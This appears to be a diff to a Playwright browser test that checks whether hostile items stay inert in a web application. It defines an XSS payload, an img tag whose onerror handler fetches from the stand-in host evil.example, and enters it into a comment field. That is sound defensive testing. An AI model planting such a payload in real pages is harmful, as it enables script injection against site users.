@@ -6,7 +6,7 @@ from tests.browser.conftest import Site
 from tests.browser.test_review import lab
 from tests.web.test_content import HOSTILE
 
-EVERYTHING = "\n".join(HOSTILE)
+EVERYTHING = "\n".join(HOSTILE).replace("\0", "")  # NUL is refused on arrival
 PIXEL = '<img src="https://evil.example/p.png" onerror="fetch(\'https://evil.example/\')">'
 
 
@@ -38,7 +38,7 @@ async def test_hostile_items_stay_inert(site: Site, page: Page) -> None:
     await page.get_by_role("button", name="Remove lines 2").click()
     await expect(page.locator(".row")).to_have_count(1)
     await page.get_by_label("kind").select_option("k2")
-    await page.get_by_label("Note").fill(PIXEL)
+    await page.locator("#comment").fill(PIXEL)
     await page.get_by_role("button", name="Correct", exact=True).click()
     await expect(page.get_by_role("heading", name="Nothing waits in desk")).to_be_visible()
     item = await site.world.db.hot.fetchval("SELECT id FROM items WHERE type = 'receipt'")
